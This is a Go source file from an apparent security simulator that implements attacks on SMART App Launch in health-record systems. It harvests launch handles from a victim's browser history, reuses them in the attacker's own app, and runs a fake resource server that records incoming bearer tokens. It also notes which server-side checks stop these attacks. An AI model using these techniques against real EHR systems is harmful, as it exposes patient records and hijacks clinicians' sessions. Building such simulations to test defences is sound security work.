package attacker

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// What the techniques of family SM have in common: apps that are opened on a patient's record (SMART App Launch).

const beyondLaunch = "FAPI 2.0 knows no launch: what a handle may be used for is SMART's to say, and SMART App Launch 2.2 says only that it is tied to a " +
	"session of the EHR. A server that keeps whose it is, for which app, since when and whether it was used stops this."

// launchSeen is the handle of a clinician's launch, out of the history of her browser.
func launchSeen(g Ground) (string, error) {
	var visited []string
	if err := json.Unmarshal(g.Stolen(event.BrowserHistory), &visited); err != nil {
		return "", fmt.Errorf("the browser's history: %w", err)
	}
	page, _, _ := strings.Cut(g.Target().AppLaunch, "?")
	for _, u := range slices.Backward(visited) {
		if handle := queryOf(u).Get("launch"); handle != "" && strings.HasPrefix(u, page+"?") {
			return handle, nil
		}
	}
	return "", fmt.Errorf("the browser's history holds no launch of an app")
}

// ownLaunch has the thief, who is a doctor, open the honest app from the EHR on a patient of his own. His browser goes
// no further than a URL that begins with stop.
func ownLaunch(ctx context.Context, g Ground, stop string) (Page, error) {
	t := g.Target()
	if _, err := g.Browser().Visit(ctx, t.ClientLogin+t.Issuer, ""); err != nil {
		return Page{}, err
	}
	page, err := g.Browser().Visit(ctx, t.AppFromEHR+url.QueryEscape(t.OwnPatient), stop)
	if err == nil && !page.Stopped {
		err = fmt.Errorf("expected the thief's own launch to come to %s, got to %s", stop, page.URL)
	}
	return page, err
}

// openedOn signs the thief in at his own app with a launch, and returns the token and whose record it is for.
func (a *app) openedOn(ctx context.Context, handle string) (t fapi.TokenResponse, patient string, err error) {
	z, err := a.authorize(ctx, "launch openid patient/*.rs", a.g.Target().FHIRBase, func(form url.Values) { form.Set("launch", handle) })
	if err != nil {
		return t, "", err
	}
	page, err := a.g.Browser().Visit(ctx, z.url, z.redirect)
	if err != nil {
		return t, "", err
	}
	code := answerOf(page.URL).Get("code")
	if code == "" {
		return t, "", ErrStopped
	}
	if t, err = a.redeem(ctx, code, z, a.g.Target().FHIRBase); err != nil {
		return t, "", err
	}
	if t.Launch == nil || t.Patient == "" {
		return t, "", fmt.Errorf("expected a patient in the token response, got none")
	}
	return t, t.Patient, nil
}

// facade is an API of the thief's that says whose authorization server it belongs to, and has no records. It keeps what
// it is asked.
type facade struct {
	base string
	mu   sync.Mutex
	got  []*http.Request
}

func newFacade(g Ground, base, issuer string) *facade {
	f := &facade{base: base}
	g.Serve(g.Target().OwnHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/.well-known/smart-configuration") {
			writeJSON(w, http.StatusOK, fapi.Metadata{Issuer: issuer})
			return
		}
		f.mu.Lock()
		defer f.mu.Unlock()
		f.got = append(f.got, r.Clone(r.Context()))
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	return f
}

// asked is the first request that came with a token; nil if none did.
func (f *facade) asked() *http.Request {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, r := range f.got {
		if r.Header.Get("Authorization") != "" {
			return r
		}
	}
	return nil
}
